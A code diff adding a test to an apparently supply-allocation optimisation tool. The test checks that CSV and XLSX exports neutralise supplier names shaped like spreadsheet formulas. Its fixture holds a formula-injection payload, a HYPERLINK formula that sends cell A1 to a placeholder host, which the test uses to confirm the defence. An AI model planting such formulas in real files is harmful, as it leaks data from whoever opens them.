@@ -243,3 +243,28 @@ def test_data_status_counts_confirmed_and_estimates(tmp_path):
     assert status.loc["baseline_flows", "no_status"] == 1  # builders' baseline has no status
     sources = export.data_sources(ds)
     assert ("elements", "USGS", "confirmed", 1) in set(map(tuple, sources.to_numpy().tolist()))
+
+
+def test_formula_like_cells_are_written_as_text(tmp_path):
+    """A supplier named like a spreadsheet formula must not run when an analyst opens the
+    export: CSV and XLSX text cells get a leading quote; numbers stay numbers."""
+    evil = '=HYPERLINK("http://x.invalid/?leak="&A1,"CHN")'
+    folder = write_dataset(
+        tmp_path / "d",
+        elements=[{"element": "X", "demand_t": 100.0}],
+        suppliers=[{"supplier": evil}, {"supplier": "@BBB\x07"}],
+        offers=[
+            {"supplier": evil, "element": "X", "capacity_t": 60, "cost_usd_kg": 10},
+            {"supplier": "@BBB\x07", "element": "X", "capacity_t": 60, "cost_usd_kg": 20},
+        ],
+    )
+    sol = optimize(load_dataset(folder), Policy(objective="cost"))
+    frame = pd.read_csv(export.write_allocation(sol, tmp_path / "a.csv"))
+    assert set(frame["plant"]) == {"'" + evil, "'@BBB"}
+    assert frame["tonnes"].dtype.kind == "f"
+    from openpyxl import load_workbook
+
+    book = load_workbook(export.write_allocation(sol, tmp_path / "a.xlsx"))
+    cells = [c.value for row in book["allocation"].iter_rows() for c in row]
+    assert "'" + evil in cells and not any(isinstance(v, str) and v.startswith("=") for v in cells)
+    assert any(isinstance(v, float) for v in cells)
